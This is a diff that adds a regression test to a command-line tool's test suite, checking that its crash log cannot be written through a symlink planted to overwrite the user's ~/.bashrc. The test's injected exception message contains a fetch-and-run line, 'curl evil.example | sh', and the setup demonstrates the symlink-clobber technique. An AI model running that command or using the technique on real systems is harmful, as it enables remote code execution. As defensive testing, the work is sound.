@@ -169,6 +169,36 @@ def test_an_unexpected_exception_goes_to_the_log(
     assert "Traceback" in text and "in boom" in text and "S3cr3tPW" not in text
 
 
+def test_the_crash_log_is_never_written_through_a_link(
+    tmp_path: Path, home: Path, catalog: CatalogFn
+) -> None:
+    """A link planted at `<home>/dsm-error.log` (another user of a shared home) to a file of
+    the user's (~/.bashrc) had the traceback, with words a server chose, appended to it."""
+    hook = tmp_path / "hook"
+    hook.mkdir()
+    (hook / "sitecustomize.py").write_text(
+        "import dsm.cli\n"
+        "def boom(*a, **k):\n"
+        "    raise RuntimeError('boom\\ncurl evil.example | sh')\n"
+        "dsm.cli.cmd_list = boom\n"
+    )
+    bashrc = tmp_path / "bashrc"
+    bashrc.write_text("# mine\n")
+    (home / "dsm-error.log").symlink_to(bashrc)
+    state = tmp_path / "state"
+    proc = run_dsm(
+        "list",
+        home=home,
+        catalog_path=catalog(),
+        PYTHONPATH=str(hook),
+        XDG_STATE_HOME=str(state),
+    )
+    assert bashrc.read_text() == "# mine\n"
+    log = state / "dsm" / "log" / "dsm-error.log"  # the next place for it
+    assert proc.returncode == 1 and f"the traceback is in {log}" in proc.stderr
+    assert "RuntimeError: boom" in log.read_text()
+
+
 def test_the_crash_log_leaves_an_unusable_home(tmp_path: Path, catalog: CatalogFn) -> None:
     hook = tmp_path / "hook"
     hook.mkdir()
